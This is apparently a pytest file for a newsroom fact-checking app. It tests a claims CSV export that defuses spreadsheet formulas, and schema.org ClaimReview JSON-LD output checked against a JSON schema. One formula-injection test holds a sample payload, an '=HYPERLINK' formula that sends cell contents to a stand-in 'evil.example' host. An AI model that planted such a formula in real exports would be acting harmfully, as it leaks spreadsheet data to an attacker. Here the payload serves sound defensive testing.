"""Exports: the claims CSV (safe in a spreadsheet) and schema.org ClaimReview JSON-LD."""

from __future__ import annotations

import csv
import json
from datetime import date
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.db.models import Count, Exists, OuterRef
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from jsonschema import Draft202012Validator

from articles.models import Article, Story
from claims import review
from claims.exports import CSV_COLUMNS, claim_reviews, claims_csv, safe_cell
from claims.models import Claim, Mention, Verdict
from factdesk.errors import ApplicationError

pytestmark = pytest.mark.django_db

BASE_URL = "https://desk.example.org/"


def parse(lines: Any) -> list[list[str]]:
    return list(csv.reader("".join(lines).splitlines()))


def by_articles(story: Story) -> list[Claim]:
    """The story's claims, those mentioned by the most articles first."""
    return list(
        Claim.objects.filter(story=story).annotate(n=Count("mentions__article", distinct=True)).order_by("-n", "pk")
    )


def only_in(story: Story, **article_filter: Any) -> Claim:
    """A claim all of whose mentions are in articles matching `article_filter`."""
    others = Mention.objects.filter(claim=OuterRef("pk")).exclude(
        **{f"article__{k}": v for k, v in article_filter.items()}
    )
    claim = (
        Claim.objects.filter(story=story, mentions__isnull=False)
        .filter(~Exists(others))
        .distinct()
        .order_by("pk")
        .first()
    )
    assert claim is not None, f"the seed story has no claim only in articles with {article_filter}"
    return claim


def current(claim: Claim) -> int:
    """The claim's version now, as a page loaded at this moment would send it."""
    return Claim.objects.values_list("version", flat=True).get(pk=claim.pk)


def confirm_and_rate(claim: Claim, user: User, *verdicts: str) -> None:
    """Confirm the claim with each verdict in turn (the latest decision's verdict is the claim's),
    each with a note of its evidence."""
    for verdict in verdicts:
        review.claim_confirm(claim_id=claim.pk, user=user, version=current(claim), verdict=verdict)
        review.claim_annotate(
            claim_id=claim.pk, user=user, note=f"Checked: {verdict}", links=["https://example.org/evidence"]
        )


def articles_of(claim: Claim) -> list[Article]:
    return [m.article for m in claim.mentions.select_related("article__outlet")]


# --- CSV -------------------------------------------------------------------------------------------


def expected_text(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def expected_row(claim: Claim) -> list[str]:
    """What the CSV should say of `claim`, worked out from the database one claim at a time."""
    claim.refresh_from_db()
    articles = articles_of(claim)
    dates = [a.published_on for a in articles if a.published_on]
    return [
        str(claim.pk),
        claim.status,
        expected_text(claim.text),
        f"{claim.checkworthiness:.4f}",
        str(claim.independent_sources),
        expected_text("; ".join(claim.sources)),
        str(len(articles)),
        expected_text("; ".join(sorted({a.outlet.name for a in articles if a.outlet}, key=str.casefold))),
        str(claim.open_conflicts),
        min(dates).isoformat() if dates else "",
        claim.verdict,
        expected_text(claim.rejection_reason),
        expected_text(claim.reviewed_by.username) if claim.reviewed_by else "",
        claim.reviewed_at.isoformat() if claim.reviewed_at else "",
    ]


def test_csv_rows_are_the_claims_in_the_database(processed_story: Story, reviewer: User) -> None:
    claims = by_articles(processed_story)
    confirmed, rejected, survivor, merged = claims[0], claims[1], claims[2], claims[3]
    confirm_and_rate(confirmed, reviewer, "misleading", "inaccurate")
    review.claim_annotate(claim_id=confirmed.pk, user=reviewer, note="A later note without a verdict")
    review.claim_reject(
        claim_id=rejected.pk, user=reviewer, version=current(rejected), reason="Opinion, not a checkable fact"
    )
    review.claims_merge(
        survivor_id=survivor.pk,
        other_ids=[merged.pk],
        user=reviewer,
        versions={survivor.pk: current(survivor), merged.pk: current(merged)},
    )

    lines = list(claims_csv(processed_story))
    assert all(line.endswith("\r\n") for line in lines)
    header, *rows = parse(lines)
    assert header == list(CSV_COLUMNS)

    expected_ids = list(
        Claim.objects.filter(story=processed_story)
        .exclude(status=Claim.Status.MERGED)
        .order_by("pk")
        .values_list("pk", flat=True)
    )
    assert [int(row[0]) for row in rows] == expected_ids
    assert merged.pk not in expected_ids
    for row in rows:
        assert row == expected_row(Claim.objects.get(pk=int(row[0])))

    cells = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert cells[confirmed.pk]["verdict"] == "inaccurate"
    assert cells[confirmed.pk]["reviewed_by"] == reviewer.username
    assert cells[rejected.pk]["rejection_reason"] == "Opinion, not a checkable fact"
    assert int(cells[survivor.pk]["mention_count"]) == survivor.mentions.count() >= 2
    assert len(cells[claims[0].pk]["outlets"].split("; ")) >= 2


def test_csv_includes_merged_claims_only_when_asked(processed_story: Story, reviewer: User) -> None:
    survivor, merged = by_articles(processed_story)[:2]
    review.claims_merge(
        survivor_id=survivor.pk,
        other_ids=[merged.pk],
        user=reviewer,
        versions={survivor.pk: current(survivor), merged.pk: current(merged)},
    )

    _, *rows = parse(claims_csv(processed_story, statuses=["merged"]))
    assert [row[:2] for row in rows] == [[str(merged.pk), "merged"]]
    assert rows[0] == expected_row(merged)

    _, *rows = parse(claims_csv(processed_story, statuses=["proposed", "merged"]))
    assert len(rows) == Claim.objects.filter(story=processed_story).count()

    with pytest.raises(ApplicationError, match="Unknown claim status 'bogus'"):
        claims_csv(processed_story, statuses=["bogus"])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Iran", "25 fighters", "'already quoted", " =spaced"])
def test_other_cells_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_csv_defuses_formulas_in_text_fields_and_keeps_numbers(processed_story: Story, reviewer: User) -> None:
    formula, rejected = by_articles(processed_story)[:2]
    text = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
    review.claim_edit(claim_id=formula.pk, user=reviewer, version=current(formula), text=text)
    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=current(rejected), reason="-2+3 is not a reason")
    reviewer.username = "@rita"
    reviewer.save(update_fields=["username"])

    header, *rows = parse(claims_csv(processed_story))
    cells = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert cells[formula.pk]["text"] == "'" + text
    assert cells[rejected.pk]["reviewed_by"] == "'@rita"  # the decision's reviewer (an edit is none)
    assert cells[rejected.pk]["rejection_reason"] == "'-2+3 is not a reason"
    for row in cells.values():
        # Numbers are written as numbers, never prefixed.
        assert float(row["checkworthiness"]) >= 0
        assert int(row["independent_sources"]) >= 0
        assert int(row["mention_count"]) >= 0
        assert int(row["open_conflicts"]) >= 0
        assert not row["text"].startswith(("=", "+", "-", "@"))


def test_csv_queries_do_not_grow_with_the_claims(
    processed_story: Story, reviewer: User, django_assert_max_num_queries: Any
) -> None:
    claims = by_articles(processed_story)
    for claim in claims[:5]:
        confirm_and_rate(claim, reviewer, "accurate")
    review.claim_reject(claim_id=claims[5].pk, user=reviewer, version=current(claims[5]), reason="Not a fact")
    everything = Claim.objects.filter(story=processed_story).exclude(status=Claim.Status.MERGED).count()
    assert everything > 20

    counts = {}
    for statuses, n in ((["confirmed"], 5), (None, everything)):
        with django_assert_max_num_queries(2), CaptureQueriesContext(connection) as queries:
            rows = parse(claims_csv(processed_story, statuses=statuses))[1:]
        assert len(rows) == n
        counts[n] = len(queries)
    assert counts[5] == counts[everything]


# --- ClaimReview -----------------------------------------------------------------------------------

ORGANIZATION = {
    "type": "object",
    "required": ["@type", "name"],
    "properties": {"@type": {"const": "Organization"}, "name": {"type": "string", "minLength": 1}},
    "additionalProperties": False,
}
ISO_DATE = {"type": "string", "pattern": r"^\d{4}-\d{2}-\d{2}$"}
CLAIM_REVIEW_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "required": [
        "@context",
        "@type",
        "url",
        "claimReviewed",
        "datePublished",
        "author",
        "reviewRating",
        "itemReviewed",
    ],
    "additionalProperties": False,
    "properties": {
        "@context": {"const": "https://schema.org"},
        "@type": {"const": "ClaimReview"},
        "url": {"type": "string", "pattern": r"^https://desk\.example\.org/claims/\d+/$"},
        "claimReviewed": {"type": "string", "minLength": 1},
        "datePublished": ISO_DATE,
        "author": ORGANIZATION,
        "reviewRating": {
            "type": "object",
            "required": ["@type", "alternateName"],
            "additionalProperties": False,
            "properties": {
                "@type": {"const": "Rating"},
                "ratingValue": {"type": "integer", "minimum": 1, "maximum": 4},
                "bestRating": {"const": 4},
                "worstRating": {"const": 1},
                "alternateName": {"type": "string", "minLength": 1},
            },
            "dependentRequired": {"ratingValue": ["bestRating", "worstRating"]},
        },
        "itemReviewed": {
            "type": "object",
            "required": ["@type", "appearance"],
            "additionalProperties": False,
            "properties": {
                "@type": {"const": "Claim"},
                "author": ORGANIZATION,
                "datePublished": ISO_DATE,
                "appearance": {
                    "type": "array",
                    "minItems": 1,
                    "items": {
                        "type": "object",
                        "required": ["@type"],
                        "additionalProperties": False,
                        "properties": {
                            "@type": {"const": "CreativeWork"},
                            "url": {"type": "string", "minLength": 1},
                            "headline": {"type": "string", "minLength": 1},
                            "author": ORGANIZATION,
                        },
                    },
                },
            },
        },
    },
}


def reviews_by_id(story: Story, **kwargs: Any) -> dict[int, dict[str, Any]]:
    return {int(item["url"].rstrip("/").rsplit("/", 1)[1]): item for item in claim_reviews(story, **kwargs)}


def test_only_confirmed_claims_with_a_verdict_are_reviewed(processed_story: Story, reviewer: User) -> None:
    claims = by_articles(processed_story)
    rated, renamed, unlabelled, proposed, rejected = claims[:5]
    confirm_and_rate(rated, reviewer, "misleading", "inaccurate")
    review.claim_annotate(claim_id=rated.pk, user=reviewer, note="A later note without a verdict")
    confirm_and_rate(renamed, reviewer, "accurate")
    review.claim_edit(
        claim_id=renamed.pk, user=reviewer, version=current(renamed), text="A reworded claim, as reviewed"
    )
    review.claim_confirm(claim_id=unlabelled.pk, user=reviewer, version=current(unlabelled))
    review.claim_annotate(claim_id=unlabelled.pk, user=reviewer, note="Only that it was said", label="accurate")
    review.claim_annotate(claim_id=proposed.pk, user=reviewer, note="Looks wrong", label="inaccurate")
    confirm_and_rate(rejected, reviewer, "inaccurate")
    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=current(rejected), reason="Not a fact")

    items = reviews_by_id(processed_story, base_url=BASE_URL, publisher_name="The Desk")
    assert list(items) == sorted([rated.pk, renamed.pk])
    for pk, item in items.items():
        claim = Claim.objects.get(pk=pk)
        assert item["claimReviewed"] == claim.text
        assert item["url"] == f"https://desk.example.org/claims/{pk}/"
        assert item["author"] == {"@type": "Organization", "name": "The Desk"}
        assert item["datePublished"] == timezone.localdate(claim.reviewed_at).isoformat()  # the decision's
    assert items[renamed.pk]["claimReviewed"] == "A reworded claim, as reviewed"
    assert items[rated.pk]["reviewRating"] == {
        "@type": "Rating",
        "ratingValue": 1,
        "bestRating": 4,
        "worstRating": 1,
        "alternateName": "Inaccurate",
    }


def test_the_rating_scale(processed_story: Story, reviewer: User) -> None:
    claims = by_articles(processed_story)
    labels = ["accurate", "misleading", "inaccurate", "unverifiable"]
    for claim, label in zip(claims, labels, strict=False):
        confirm_and_rate(claim, reviewer, label)
    items = reviews_by_id(processed_story, base_url=BASE_URL)
    ratings = {label: items[claim.pk]["reviewRating"] for claim, label in zip(claims, labels, strict=False)}
    assert {label: r.get("ratingValue") for label, r in ratings.items()} == {
        "accurate": 4,
        "misleading": 2,
        "inaccurate": 1,
        "unverifiable": None,
    }
    assert {label: r["alternateName"] for label, r in ratings.items()} == {
        label: Verdict(label).label for label in labels
    }
    assert ratings["unverifiable"] == {"@type": "Rating", "alternateName": "Unverifiable"}


def test_the_claim_is_dated_and_attributed_by_its_first_appearance(processed_story: Story, reviewer: User) -> None:
    widest = by_articles(processed_story)[0]
    confirm_and_rate(widest, reviewer, "accurate")
    articles = articles_of(widest)
    assert len({a.pk for a in articles}) >= 3
    assert any(a.published_on is None for a in articles), "the seed's widest claim is also in an undated article"

    [item] = claim_reviews(processed_story, base_url=BASE_URL)
    reviewed = item["itemReviewed"]
    earliest = min(a.published_on for a in articles if a.published_on)
    assert reviewed["datePublished"] == earliest.isoformat()

    in_order = sorted({a.pk: a for a in articles}.values(), key=lambda a: (a.published_on or date.max, a.pk))
    assert len(reviewed["appearance"]) == len(in_order)
    for work, article in zip(reviewed["appearance"], in_order, strict=True):
        assert work.get("author", {}).get("name") == (article.outlet.name if article.outlet else None)
        assert work.get("url") == (article.url or None)
        assert work.get("headline") == (article.title or None)
    first = in_order[0]
    assert first.published_on == earliest
    if first.outlet:
        assert reviewed["author"] == {"@type": "Organization", "name": first.outlet.name}
    else:
        assert "author" not in reviewed


def test_unknown_dates_outlets_urls_and_titles_are_left_out(processed_story: Story, reviewer: User) -> None:
    undated = only_in(processed_story, published_on__isnull=True)
    unnamed = only_in(processed_story, outlet__isnull=True)
    Article.objects.filter(mentions__claim=unnamed).update(
        url="https://news.example.com/embassy", title="Embassy stormed"
    )
    confirm_and_rate(undated, reviewer, "unverifiable")
    confirm_and_rate(unnamed, reviewer, "accurate")

    items = reviews_by_id(processed_story, base_url=BASE_URL)
    assert "datePublished" not in items[undated.pk]["itemReviewed"]
    assert all("url" not in w and "headline" not in w for w in items[undated.pk]["itemReviewed"]["appearance"])
    assert "author" not in items[unnamed.pk]["itemReviewed"]
    assert items[unnamed.pk]["itemReviewed"]["appearance"][0] == {
        "@type": "CreativeWork",
        "url": "https://news.example.com/embassy",
        "headline": "Embassy stormed",
    }


def test_claim_reviews_validate_against_the_schema(processed_story: Story, reviewer: User) -> None:
    Draft202012Validator.check_schema(CLAIM_REVIEW_SCHEMA)
    validator = Draft202012Validator(CLAIM_REVIEW_SCHEMA)
    claims = by_articles(processed_story)
    for claim, label in zip(claims, ["accurate", "misleading", "inaccurate", "unverifiable"] * 2, strict=False):
        confirm_and_rate(claim, reviewer, label)
    confirm_and_rate(only_in(processed_story, outlet__isnull=True), reviewer, "accurate")
    confirm_and_rate(only_in(processed_story, published_on__isnull=True), reviewer, "misleading")

    items = json.loads(json.dumps(claim_reviews(processed_story, base_url=BASE_URL)))
    assert len(items) >= 9
    for item in items:
        errors = sorted(validator.iter_errors(item), key=lambda e: list(e.path))
        assert not errors, [f"{list(e.path)}: {e.message}" for e in errors]


def test_claim_review_queries_do_not_grow_with_the_claims(
    processed_story: Story, reviewer: User, django_assert_max_num_queries: Any
) -> None:
    claims = by_articles(processed_story)
    confirm_and_rate(claims[0], reviewer, "accurate")
    with django_assert_max_num_queries(2), CaptureQueriesContext(connection) as one:
        assert len(claim_reviews(processed_story, base_url=BASE_URL)) == 1
    for claim in claims[1:12]:
        confirm_and_rate(claim, reviewer, "inaccurate")
    with django_assert_max_num_queries(2), CaptureQueriesContext(connection) as many:
        assert len(claim_reviews(processed_story, base_url=BASE_URL)) == 12
    assert len(one) == len(many)


def test_no_rated_claims_no_reviews(processed_story: Story, django_assert_num_queries: Any) -> None:
    with django_assert_num_queries(1):
        assert claim_reviews(processed_story, base_url=BASE_URL) == []
